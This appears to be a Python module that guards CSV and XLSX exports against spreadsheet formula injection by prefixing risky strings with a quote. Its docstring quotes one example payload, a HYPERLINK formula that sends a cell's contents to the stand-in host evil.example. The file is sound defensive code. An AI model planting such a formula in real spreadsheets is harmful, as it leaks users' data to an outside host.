"""Spreadsheet cells written as text, never as formulas (OWASP's CSV-injection rule).

A cell a spreadsheet program would read as a formula (one that begins with ``=``, ``+``, ``-``, ``@``, a tab
or a carriage return) is written with a single quote in front, so a name such as
``=HYPERLINK("http://evil.example/?"&A1,"Klik")`` stays the text it is in every export (CSV and XLSX).
Only strings are touched: a negative number stays a number. Every export writes its rows through
``safe_row`` (``csv_writer``, ``append_row``). Pure: no Django.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from typing import Any, Protocol

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(value: Any) -> Any:
    """``value`` as a cell that cannot be a formula: a string with a formula's first character gets a ``'``."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    return [neutralise(v) for v in values]


class _Writable(Protocol):
    def write(self, text: str, /) -> Any: ...


class SafeCsvWriter:
    """``csv.writer`` whose cells are neutralised (``writerow`` and ``writerows``)."""

    def __init__(self, out: _Writable, **options: Any) -> None:
        self._writer = csv.writer(out, **options)

    def writerow(self, values: Iterable[Any]) -> None:
        self._writer.writerow(safe_row(values))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(out: _Writable, **options: Any) -> SafeCsvWriter:
    return SafeCsvWriter(out, **options)


def append_row(sheet: Any, values: Iterable[Any]) -> None:
    """Append ``values`` to an openpyxl worksheet as one row, strings neutralised (openpyxl makes any string
    beginning with ``=`` a formula)."""
    sheet.append(safe_row(values))
